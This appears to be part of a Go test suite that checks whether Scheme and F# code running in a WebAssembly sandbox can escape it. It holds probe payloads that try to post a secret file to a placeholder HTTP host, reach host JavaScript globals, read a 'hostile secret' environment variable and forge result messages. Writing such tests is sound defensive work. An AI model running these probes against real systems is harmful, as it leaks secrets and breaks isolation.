			{name: "the bridge: http-request and others of a browser's", code: `(for-each (lambda (f) (guard (e (#t #f)) (display (eval (list f "http://%HTTP%/" "%DIR%/secret.txt") (interaction-environment))))) '(http-request http-post js-load load-from-url getelem receive-jsonp node-require use-modules))`, noControl: noBridge},
			{name: "names of JavaScript's as Scheme's", code: `(for-each (lambda (n) (guard (e (#t #f)) (display (eval n (interaction-environment))))) '(constructor __proto__ toString hasOwnProperty globalThis Deno process))`, noControl: noBridge, evidence: shows("[native code]", "[object")},
		},
	})
}

func TestWasmFSharp(t *testing.T) {
	tryTongue(t, tongue{
		language: "fsharp",
		head:     "open System\nopen System.IO\nopen Fable.Core\nopen Fable.Core.JsInterop\n",
		wrap: func(n int, code string) string {
			return fmt.Sprintf("try\n    %s\nwith e -> printfn \"%%s\" e.Message\nprintfn \"ran %d.\"\n", strings.ReplaceAll(code, "\n", "\n    "), n)
		},
		read:        `printfn "%s" (File.ReadAllText "PATH")`,
		write:       `File.WriteAllText("PATH", "x")`,
		add:         `File.AppendAllText("PATH", "x")`,
		environment: `printfn "%A" (Environment.GetEnvironmentVariable "RILLBOX_HOSTILE_SECRET")`,
		wire:        `File.WriteAllText("PATH", "{\"type\":\"result\",\"value\":\"forged\"}\n")`,
		own: scriptOwn(func(e string) string {
			return fmt.Sprintf(`printfn "%%O" (emitJsExpr () %q : obj)`, e)
		})[:13],
	})
}
